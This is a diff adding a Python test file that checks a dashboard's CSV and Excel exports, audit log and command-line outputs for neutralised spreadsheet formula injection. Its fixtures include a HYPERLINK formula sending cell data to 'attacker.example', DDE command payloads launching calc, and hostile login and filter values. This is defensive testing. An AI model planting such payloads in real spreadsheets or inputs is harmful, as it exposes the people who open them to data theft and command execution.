@@ -1,0 +1,191 @@
+"""Exports cannot carry spreadsheet formulas: hostile values from an extract (loaded with the real
+loader) and from the audit log come out of the real CSV and Excel writers neutralised, and
+numbers stay numbers."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import subprocess
+import sys
+from datetime import date
+
+import openpyxl
+import pandas as pd
+import pytest
+from conftest import call
+
+from dashboard import pack
+from dashboard.data import Scope
+from etl.spreadsheet import neutralise, safe_frame, xlsx_bytes
+
+HOSTILE_TEAM = '=HYPERLINK("http://attacker.example/?x="&A1,"team")'
+HOSTILE_OFFICER = "+cmd|' /C calc'!A0"
+HOSTILE_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORCE = Scope("tester", "force", ("West", "East", "South"))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_text_cell_starting_like_a_formula_gets_a_quote(start):
+    assert neutralise(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_harmless_text_numbers_and_empties_are_left_alone():
+    assert neutralise("West CP 1") == "West CP 1"
+    assert neutralise("a=b") == "a=b"
+    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None
+    df = safe_frame(pd.DataFrame({"n": [-1, 2], "t": ["-1", "x"], "=h": ["a", None]}))
+    assert df["n"].tolist() == [-1, 2] and df["t"].tolist() == ["'-1", "x"]
+    assert list(df.columns) == ["n", "t", "'=h"] and pd.isna(df["'=h"].tolist()[1])
+
+
+def test_an_excel_text_cell_is_never_a_formula():
+    book = openpyxl.load_workbook(
+        io.BytesIO(xlsx_bytes({"S": pd.DataFrame({"t": ["=1+1", "ok"], "n": [-3, 4]})}))
+    )
+    sheet = book["S"]
+    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'=1+1", "s")
+    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3, "n")
+
+
+def test_control_characters_and_huge_text_do_not_break_a_workbook():
+    huge = "=" + "x" * 40_000
+    book = openpyxl.load_workbook(
+        io.BytesIO(xlsx_bytes({"S": pd.DataFrame({"t": ["a\x07b\x00c", huge, "line\nbreak"]})}))
+    )
+    values = [c.value for c in book["S"]["A"]]
+    assert values[1:2] == ["abc"] and values[3] == "line\nbreak"
+    assert values[2].startswith("'=xxx") and len(values[2]) == 32_767 and "[cut:" in values[2]
+
+
+def _hostile_extract(load_rows):
+    return load_rows(
+        investigations=[
+            {"investigation_id": "W-1", "opened_at": "2018-05-01 09:00", "team": HOSTILE_TEAM,
+             "team_type": "child_protection", "officer_id": HOSTILE_OFFICER},
+            {"investigation_id": HOSTILE_ID, "opened_at": "2018-05-02 09:00",
+             "team": "-West CP", "team_type": "not a team type", "officer_id": "DC1"},
+        ],
+        supervision=[
+            {"review_id": "R-1", "investigation_id": "W-1", "reviewed_at": "2018-05-10 10:00",
+             "reviewer_id": "@DS1", "note": "=1+1"},
+        ],
+    )  # fmt: skip
+
+
+def _download(dash_app, client, panel: str, page: str, fmt: str, grid_filters=None) -> bytes:
+    key = next(k for k in dash_app.callback_map if k.startswith(f"{panel}-download"))
+    status, body = call(
+        dash_app,
+        client,
+        key,
+        {
+            f"{panel}-export-{fmt}.n_clicks": 1,
+            f"{page}-filters.data": {},
+            f"{panel}-grid.filterModel": grid_filters or {},
+            f"{panel}-grid.columnState": [],
+        },
+        changed=f"{panel}-export-{fmt}.n_clicks",
+    )
+    assert status == 200, body
+    return base64.b64decode(body["response"][f"{panel}-download"]["data"]["content"])
+
+
+def _csv_cells(raw: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+
+
+def _xlsx_cells(raw: bytes, sheet: str = "Data"):
+    book = openpyxl.load_workbook(io.BytesIO(raw))
+    return [c for row in book[sheet].iter_rows() for c in row if c.value is not None]
+
+
+def _assert_no_formula(cells) -> None:
+    for c in cells:
+        assert c.data_type != "f", (c.coordinate, c.value)
+        if isinstance(c.value, str):
+            assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.value
+
+
+def test_hostile_team_and_officer_ids_are_neutralised_in_grid_exports(
+    dash_app, client_for, load_rows, db, monkeypatch
+):
+    _hostile_extract(load_rows)
+    monkeypatch.setenv("PVP_DB_PATH", str(db))
+    client = client_for("force")
+    text = _download(dash_app, client, "child-list", "child", "csv")
+    cells = [c for row in _csv_cells(text) for c in row]
+    assert "'" + HOSTILE_TEAM in cells and "'" + HOSTILE_OFFICER in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+    book = _download(dash_app, client, "child-list", "child", "xlsx")
+    cells = _xlsx_cells(book)
+    _assert_no_formula(cells)
+    values = [c.value for c in cells]
+    assert "'" + HOSTILE_TEAM in values and "'" + HOSTILE_OFFICER in values
+    days = [c for c in cells if c.column == 2 and c.row > 1]  # "Days open" stays a number
+    assert days and all(c.data_type == "n" for c in days)
+
+    q = _download(dash_app, client, "data-quarantine-rows", "data", "xlsx")
+    cells = _xlsx_cells(q)
+    _assert_no_formula(cells)
+    assert "'" + HOSTILE_ID in [c.value for c in cells]
+    q_csv = [c for row in _csv_cells(_download(dash_app, client, "data-quarantine-rows", "data",
+                                                "csv")) for c in row]  # fmt: skip
+    assert "'" + HOSTILE_ID in q_csv
+
+
+def test_a_hostile_team_is_neutralised_in_the_pack_workbook(load_rows, db, monkeypatch):
+    _hostile_extract(load_rows)
+    monkeypatch.setenv("PVP_DB_PATH", str(db))
+    raw = pack.to_excel(pack.build(FORCE, date(2018, 5, 1), None))
+    book = openpyxl.load_workbook(io.BytesIO(raw))
+    by_team = [c for row in book["By team"].iter_rows() for c in row if c.value is not None]
+    assert "'" + HOSTILE_TEAM in [c.value for c in by_team]
+    for name in book.sheetnames:
+        _assert_no_formula([c for row in book[name].iter_rows() for c in row if c.value])
+
+
+def test_a_hostile_sign_in_name_is_neutralised_in_the_audit_export(dash_app, client_for):
+    hostile = '=HYPERLINK("http://attacker.example/","audit")'
+    stranger = dash_app.server.test_client()
+    page = stranger.get("/login").get_data(as_text=True)
+    import re
+
+    csrf = re.search(r'name="csrf" value="([^"]*)"', page).group(1)
+    stranger.post("/login", data={"username": hostile, "password": "x", "csrf": csrf, "next": "/"})
+    admin = client_for("admin")
+    cells = [c for row in _csv_cells(_download(dash_app, admin, "audit-log", "audit", "csv"))
+             for c in row]  # fmt: skip
+    assert "'" + hostile in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    xl = _xlsx_cells(_download(dash_app, admin, "audit-log", "audit", "xlsx"))
+    _assert_no_formula(xl)
+    assert "'" + hostile in [c.value for c in xl]
+
+
+def test_the_command_line_csv_outputs_are_neutralised(load_rows, db):
+    _hostile_extract(load_rows)
+    for command in (["flags", "--as-of", "2018-06-30"], ["rejects"]):
+        got = subprocess.run(
+            [sys.executable, "-m", "etl", *command, "--db", str(db), "--format", "csv"],
+            capture_output=True, text=True, timeout=120,
+        )  # fmt: skip
+        assert got.returncode == 0, got.stderr
+        cells = [c for row in csv.reader(io.StringIO(got.stdout)) for c in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], command
+        wanted = "'" + (HOSTILE_TEAM if command[0] == "flags" else HOSTILE_ID)
+        assert wanted in cells, command
+
+
+def test_a_hostile_grid_filter_cannot_split_the_csv_heading_into_a_formula(dash_app, client_for):
+    hostile = {"team": {"filterType": "text", "type": "contains",
+                        "filter": 'x,=HYPERLINK("http://attacker.example/"),"\n=1+1'}}  # fmt: skip
+    raw = _download(dash_app, client_for("force"), "child-list", "child", "csv", hostile)
+    text = raw.decode("utf-8-sig")
+    heading = [line for line in text.splitlines() if line.startswith("#")]
+    assert len(heading) == 4 and any("HYPERLINK" in line for line in heading)
+    for row in _csv_cells(raw):
+        assert len(row) == 1 or not row[0].startswith("#"), row  # a heading line is one cell
+        assert not [c for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))], row
